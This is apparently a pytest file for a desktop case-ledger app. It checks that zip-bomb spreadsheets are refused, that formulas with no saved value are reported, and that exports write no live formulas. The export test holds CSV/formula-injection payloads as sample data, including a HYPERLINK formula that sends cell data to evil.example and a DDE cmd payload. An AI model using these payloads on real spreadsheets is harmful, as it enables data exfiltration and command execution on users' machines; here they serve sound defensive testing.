"""Issue 11 item 12: hostile spreadsheets are refused before they can eat the memory, formula cells without a
value are reported instead of imported empty, and exports never write live formulas."""
from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest

from sifasuo_desktop.domain import limits
from sifasuo_desktop.domain.errors import UserError
from sifasuo_desktop.store.import_apply import apply_plan
from sifasuo_desktop.xlsx.planner import plan_import
from sifasuo_desktop.xlsx.reader import load_grids

from . import bombs
from .conftest import make_book

ROOT = Path(__file__).resolve().parents[2]

# The child loads the file under a 1 GB address-space cap: on the old reader these files either blew the cap
# (MemoryError), took minutes, or loaded without any refusal.
CHILD = r"""
import json, resource, sys
resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))
def peak_mb():
    # VmHWM: this process image's own peak (ru_maxrss keeps the parent's peak from before the fork)
    try:
        for line in open("/proc/self/status"):
            if line.startswith("VmHWM:"):
                return int(line.split()[1]) // 1024
    except OSError:
        pass
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024
from sifasuo_desktop.xlsx.reader import load_grids
from sifasuo_desktop.domain.errors import UserError
try:
    load_grids(sys.argv[1]); out = {"outcome": "loaded"}
except UserError as e:
    out = {"outcome": "refused", "message": e.message}
except MemoryError:
    out = {"outcome": "MemoryError"}
out["rss_mb"] = peak_mb()
print(json.dumps(out))
"""


def load_in_child(path) -> dict:
    try:
        res = subprocess.run([sys.executable, "-c", CHILD, str(path)], cwd=ROOT, capture_output=True, text=True,
                             timeout=60)
    except subprocess.TimeoutExpired:
        return {"outcome": "timeout"}
    assert "Traceback" not in res.stderr, res.stderr[-2000:]
    return json.loads(res.stdout.strip().splitlines()[-1])


@pytest.mark.parametrize("build, words", [
    (lambda p: bombs.many_shared_strings(p, limits.MAX_SHARED_STRINGS + 200_000), "共享文本超过"),
    (lambda p: bombs.many_shared_strings(p, 4_000_000), "共享文本表解压后"),
    (lambda p: bombs.one_huge_string(p, 40 * 1024 * 1024), "超过 32767 个字符"),
    (lambda p: bombs.huge_inline_string(p, 40 * 1024 * 1024), "超过 32767 个字符"),
    (bombs.huge_dimension, "第 1048576 行有数据"),
    (lambda p: bombs.huge_dimension(p, "XFD3"), "第 XFD 列有数据"),
], ids=["count", "bytes", "one-shared-string", "one-inline-string", "far-row", "far-column"])
def test_zip_bombs_refused_with_little_memory(tmp_path, build, words):
    path = build(tmp_path / "bomb.xlsx")
    assert path.stat().st_size < 12 * 1024 * 1024
    out = load_in_child(path)
    assert out["outcome"] == "refused", out
    assert words in out["message"] and "恶意构造" in out["message"]
    assert out["rss_mb"] < 200, out


def test_claimed_dimension_alone_costs_nothing(tmp_path):
    """A sheet whose <dimension> claims A1:XFD1048576 but holds one cell reads as that one cell."""
    grids = load_grids(bombs.huge_dimension(tmp_path / "dim.xlsx", far_cell=None))
    assert [(g.name, g.rows) for g in grids] == [("执法案件台账", [["序号"]])]


def test_row_and_cell_caps(tmp_path, monkeypatch):
    path = make_book(tmp_path / "t.xlsx", {"表": ([[r * 10 + c for c in range(10)] for r in range(20)], [])})
    assert len(load_grids(path)[0].rows) == 20
    monkeypatch.setattr(limits, "MAX_CELLS", 150)
    with pytest.raises(UserError, match="有数据的单元格超过 150 个"):
        load_grids(path)
    monkeypatch.setattr(limits, "MAX_CELLS", 10_000)
    monkeypatch.setattr(limits, "MAX_SHEET_ROWS", 15)
    with pytest.raises(UserError, match="第 16 行有数据（上限 15 行）"):
        load_grids(path)
    monkeypatch.setattr(limits, "MAX_SHEET_ROWS", 100)
    monkeypatch.setattr(limits, "MAX_SHEET_COLUMNS", 8)
    with pytest.raises(UserError, match="第 J 列有数据（上限 8 列）"):
        load_grids(path)


def test_merged_range_over_whole_sheet_is_clipped(tmp_path):
    path = tmp_path / "m.xlsx"
    members = bombs._base(path, [])
    members["xl/worksheets/sheet1.xml"] = bombs._sheet(
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>\xe6\xa0\x87\xe9\xa2\x98</t></is></c></row>'
        b'<row r="2"><c r="A2" t="inlineStr"><is><t>a</t></is></c><c r="B2" t="inlineStr"><is><t>b</t></is></c></row>'
    ).replace(b"</sheetData>", b'</sheetData><mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>')
    bombs._write(path, members, {})
    rows = load_grids(path)[0].rows
    assert rows == [["标题", "标题"], ["标题", "标题"]]


def test_uncompressed_size_checked_before_loading(tmp_path, monkeypatch):
    path = bombs.many_rows(tmp_path / "r.xlsx", 5000)
    monkeypatch.setattr(limits, "MAX_XLSX_SHEET_BYTES", 64 * 1024)
    with pytest.raises(UserError, match=r"工作表数据解压后有 \d+ MB"):
        load_grids(path)
    monkeypatch.setattr(limits, "MAX_XLSX_SHEET_BYTES", 256 * 1024 * 1024)
    monkeypatch.setattr(limits, "MAX_XLSX_TOTAL_BYTES", 64 * 1024)
    with pytest.raises(UserError, match="解压后共有"):
        load_grids(path)


def test_formula_without_cached_value_is_reported(store, tmp_path):
    """openpyxl (and other programs) save formulas without a computed value: the old reader imported them as
    empty cells without a word. Now the row is refused with the formula named; nothing is written."""
    path = make_book(tmp_path / "f.xlsx", {"执法案件台账": ([
        ["案件编号", "办案单位", "案件类型", "当事人", "立案时间", "罚款金额（元）", "办案人员"],
        ["示综罚〔2025〕1号", "示范镇人民政府", "行政处罚(一般程序)", "王某", "2025-03-05", "=SUM(100,200)", "张三、李四"],
    ], [])})
    plan = plan_import(store, path)
    msgs = [p.message for p in plan.errors]
    assert any("公式“=SUM(100,200)”" in m and "没有保存计算结果" in m for m in msgs), msgs
    before = store.count("cases")
    with pytest.raises(UserError):
        apply_plan(store, plan)
    assert store.count("cases") == before


def test_formula_with_cached_value_imports_the_value_not_the_formula(tmp_path):
    path = tmp_path / "c.xlsx"
    members = bombs._base(path, [])
    members["xl/worksheets/sheet1.xml"] = bombs._sheet(
        b'<row r="1"><c r="A1"><f>SUM(1,2)</f><v>3</v></c><c r="B1" t="str"><f>"=x"&amp;"y"</f><v>=xy</v></c></row>')
    bombs._write(path, members, {})
    assert load_grids(path)[0].rows == [[3, "=xy"]]


def test_export_never_writes_live_formulas(store, tmp_path):
    """A 当事人 typed as =HYPERLINK(...) (or + - @ …) used to be written as a live formula: Excel/WPS ran it."""
    from sifasuo_desktop.xlsx.export import export_ledger

    gov = store.rows("bodies")[0]
    evil = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
            "\t=1+1"]
    for i, name in enumerate(evil):
        store.insert("cases", {"case_no": f"示综罚〔2025〕{i + 1}号", "body_id": gov["id"], "case_type": "行政处罚(一般程序)",
                               "party": name, "filed_date": "2025-03-05"})
    from sifasuo_desktop.store.ledger_queries import LedgerQuery

    out = tmp_path / "out.xlsx"
    assert export_ledger(store, LedgerQuery("cases"), out) == len(evil)
    wb = openpyxl.load_workbook(out)
    ws = wb.active
    cells = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and c.value in evil]
    assert sorted(c.value for c in cells) == sorted(evil)
    assert all(c.data_type == "s" and c.quotePrefix for c in cells), [(c.value, c.data_type) for c in cells]
    import zipfile
    with zipfile.ZipFile(out) as zf:
        assert "<f>" not in zf.read("xl/worksheets/sheet1.xml").decode()
    # and the text comes back unchanged on re-import
    values = {v for g in load_grids(out) for r in g.rows for v in r}
    assert set(evil) <= values
